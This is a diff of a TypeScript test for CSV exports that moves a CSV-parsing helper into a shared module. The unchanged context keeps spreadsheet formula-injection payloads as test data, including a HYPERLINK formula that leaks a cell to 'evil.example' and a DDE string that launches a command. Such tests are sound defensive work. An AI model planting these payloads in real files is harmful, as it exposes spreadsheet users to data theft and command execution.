@@ -8,6 +8,7 @@ import { sql } from 'kysely';
 import { startTestApp, type TestApp } from '../helpers/app.ts';
 import { postPoints } from '../../server/modules/points/ledger.ts';
 import { companyOf } from '../helpers/demo-data.ts';
+import { parseCsv } from '../helpers/csv.ts';
 
 let t: TestApp;
 const db = () => t.database.db;
@@ -15,36 +16,6 @@ const db = () => t.database.db;
 const NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
 const REASON = '+cmd|\' /C calc\'!A0';
 const ANSWER = '@SUM(1+1)*cmd';
-
-/** Every record of a CSV text (quoted cells with "" escapes, as csv-stringify writes them). */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  const body = text.replace(/^\uFEFF/, '');
-  for (let i = 0; i < body.length; i++) {
-    const ch = body[i]!;
-    if (quoted) {
-      if (ch === '"' && body[i + 1] === '"') {
-        cell += '"';
-        i++;
-      } else if (ch === '"') quoted = false;
-      else cell += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') {
-      row.push(cell);
-      cell = '';
-    } else if (ch === '\n') {
-      row.push(cell);
-      rows.push(row);
-      row = [];
-      cell = '';
-    } else if (ch !== '\r') cell += ch;
-  }
-  if (cell || row.length) rows.push([...row, cell]);
-  return rows;
-}
 
 async function exportOf(path: string): Promise<string[][]> {
   const res = await fetch(`${t.url}${path}`, { headers: { cookie: `token=${await t.tokenOf('company_admin')}`, 'accept-language': 'en' } });
